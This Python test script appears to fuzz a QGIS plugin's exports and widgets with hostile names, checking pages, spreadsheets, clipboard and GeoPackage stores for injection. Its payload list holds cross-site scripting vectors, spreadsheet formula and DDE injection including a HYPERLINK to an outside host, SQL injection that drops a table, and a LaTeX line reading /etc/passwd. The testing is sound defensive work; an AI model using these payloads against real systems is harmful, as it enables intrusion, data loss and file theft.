"""Hostile texts as names of areas, units, categories, notes, files and folders, through all that a person opens.

    python -m tools.attack.hostile_words --n 20 --seed 1

Each round draws texts (markup, scripts, formulas, SQL, quotes, line ends, turns of direction, LaTeX, templates, very long
ones), builds a store of them, and looks at what comes out: pages (no element and no attribute that a page of plain words
has not, and no script that runs, in a browser where there is one), CSV, XLSX, ODS and the clipboard (no cell begins a
formula), the store (no table lost), the labels, tips and messages of the dock (a text shows as it is), charts (they are
drawn). The last line is the figure; the exit status is 1 where anything was found.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from tools.attack.command import command
from tools.qgis_env import environment

MARK = "Zq7"  # stands in every text, so that it is known again
RUNS = "window.hit=1;document.documentElement.setAttribute('data-hit','1')"
TEXTS = (
    f"<script>{RUNS}</script>{MARK}", f'<img src=x onerror="{RUNS}">{MARK}', f"<svg/onload={RUNS}>{MARK}", f'"><b onmouseover="{RUNS}">{MARK}', f"' autofocus onfocus='{RUNS}' a='{MARK}",
    f"</td></tr></table><h1>{MARK}</h1>", f"</title></style><script>{RUNS}</script>{MARK}", f"<style>*{{display:none}}</style>{MARK}", f'<a href="javascript:{RUNS}">{MARK}</a>', f"<b>{MARK}</b>",
    f"&lt;b&gt;{MARK}&amp;", f"<!-- {MARK}", f"]]>{MARK}", f'<?xml version="1.0"?>{MARK}', f"<iframe srcdoc='<script>{RUNS}</script>'>{MARK}", f"{{{{7*7}}}}{MARK}", f"{{% raw %}}{MARK}", f'[% eval("{MARK}") %]',
    f'=HYPERLINK("http://a.example/?"&A1,"{MARK}")', f"=cmd|'/C calc'!A1 {MARK}", f"+44 {MARK}", f"@SUM(1+1)*{MARK}", f"-2+3+{MARK}", f"\t=1+1 {MARK}", f"{MARK}\n=1+1", f"\r\n@{MARK}", f"＝1+1 {MARK}", f"of:=1+1 {MARK}",
    f"'; DROP TABLE time_use;-- {MARK}", f'" OR ""=" {MARK}', f"') UNION SELECT 1 -- {MARK}", f'{MARK},"a","b"', f"{MARK};b\tc", f"\u202e{MARK}\u202c x", f"\u2066{MARK}\u200b", f"{MARK}\x1b[31m", f"{MARK}\x07",
    f"$\\frac{{{MARK}$", f"${MARK}$ and $x$", f"\\documentclass{{{MARK}}}", f"\\input{{/etc/passwd}}{MARK}", f"%PDF-1.4 {MARK}", f"%n%s%d {MARK}", f"_{MARK}", f"#{MARK}", f"{{0}}{{filter}}{MARK}", f"& {MARK} && x", f"🚓{MARK}", MARK + " long" * 800,
)  # fmt: skip
_STARTS = re.compile("'?[=+\\-@＝＋－＠\t\r]")
_NUMBER = re.compile(r"[+-]?[\d.,\s]+%?|[-–—]+|[+-]?\d+(\.\d+)?[eE][+-]?\d+")


def tame(text: str, number: int) -> str:
    """A harmless text in the place of a hostile one."""
    return f"Plain words {MARK} {number}"


def as_name(text: str) -> str:
    """What of a text the name of a file can hold."""
    return re.sub(r"[/\\\x00\r\n\t]", " ", text)[:60].strip(" .") or MARK


# --- judges -----------------------------------------------------------------------------------------------------------


class Parts(HTMLParser):
    """The kinds of elements and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, str]] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {(tag, ""), *((tag, name) for name, _ in attrs)}

    def handle_decl(self, decl: str) -> None:
        self.found.add((f"!{decl}", ""))

    def handle_comment(self, data: str) -> None:
        self.found.add(("!--", ""))

    def handle_pi(self, data: str) -> None:
        self.found.add(("?", ""))


def faults_of_page(page: str, plain: str) -> list[str]:
    """Elements and attributes of a page that the same page of plain words has not."""
    return [f"<{tag} {name}>" for tag, name in sorted(Parts(page).found - Parts(plain).found)]


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula."""
    return bool(re.match("[=+\\-@＝＋－＠\t\r]|of:=", cell)) and not _NUMBER.fullmatch(cell)


def faults_of_text_table(text: str, delimiter: str = ",") -> list[str]:
    """Cells of CSV, or of tab-separated text as it is pasted, that begin a formula."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [f"a cell begins {cell[:40]!r}" for row in rows for cell in row if starts_formula(cell)]


def faults_of_workbook(path: Path) -> list[str]:
    """Formulas in an XLSX or ODS, and cells whose text begins one."""
    found = []
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if not name.endswith(".xml"):
                continue
            for element in ElementTree.fromstring(book.read(name)).iter():
                kind = element.tag.rpartition("}")[2]
                if (kind == "f" and "worksheets" in name) or any(a.endswith("}formula") for a in element.attrib):
                    found.append(f"a formula in {name}")
                elif kind in ("t", "p", "v") and element.text and starts_formula(element.text):
                    found.append(f"a cell begins {element.text[:40]!r}")
    return found


def tables_of(folder: Path) -> set[tuple[str, str]]:
    """(file, table) of a store, and what its check of itself complains of."""
    found = set()
    for path in sorted(folder.glob("*.gpkg")):
        with closing(sqlite3.connect(path)) as file:
            found |= {(path.name, n) for (n,) in file.execute("SELECT name FROM sqlite_master WHERE type IN ('table', 'view', 'trigger')")}  # fmt: skip
            found |= {(path.name, said) for (said,) in file.execute("PRAGMA integrity_check") if said != "ok"}
    return found


def browser() -> str:
    return next((p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), "")


def ran(page: Path) -> bool:
    """Whether a script that was planted runs when a browser opens a page."""
    options = ["--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=2000", "--dump-dom"]
    done = subprocess.run([browser(), *options, page.as_uri()], capture_output=True, encoding="utf-8", errors="replace", timeout=120, check=False)  # fmt: skip
    return bool(re.search(r"<html[^>]*\sdata-hit=", done.stdout))


def draw(n: int, seed: int) -> Iterator[list[str]]:
    """The texts of each round, all of them in turn."""
    rng, left = random.Random(seed), list[str]()
    for _ in range(n):
        if len(left) < 9:
            left += rng.sample(TEXTS, len(TEXTS))
        yield [left.pop(0) for _ in range(9)]


def main() -> int:
    asked = command(__doc__, 20).parse_args()
    folder = Path(tempfile.mkdtemp(prefix="hostile_words_"))
    counts, findings = attack(folder, asked.n, asked.seed)
    for finding in findings[:60]:
        print(f"  {finding}")
    if findings:
        print(f"The outputs are in {folder}.")
    else:
        shutil.rmtree(folder)
    print(figure(counts, findings))
    return 1 if findings else 0


def figure(counts: dict[str, int], findings: list[str]) -> str:
    return (
        f"hostile_words: {counts['texts']} texts in {counts['rounds']} stores, {counts['shown']} shown in {counts['outputs']} outputs "
        f"and {counts['widgets']} places of the dock, {len(findings)} findings"
    )


def attack(folder: Path, n: int, seed: int) -> tuple[dict[str, int], list[str]]:
    """Rounds in a QGIS process of their own; what was counted, and the findings."""
    report, errors = folder / "report.json", folder / "stderr.txt"
    variables = environment(plugins=folder / "plugins", config=folder / "config")
    command = [sys.executable, "-m", "tools.attack.hostile_words_shown", str(folder), str(n), str(seed)]
    with errors.open("wb") as stream:
        done = subprocess.run(command, cwd=ROOT, env=variables, stdin=subprocess.DEVNULL, stdout=stream, stderr=stream, check=False)  # fmt: skip
    if not report.is_file():
        raise SystemExit(f"It died ({done.returncode}): {errors.read_text(encoding='utf-8', errors='replace')[-3000:]}")
    counts, findings = json.loads(report.read_text(encoding="utf-8"))
    return counts, findings


if __name__ == "__main__":
    sys.exit(main())
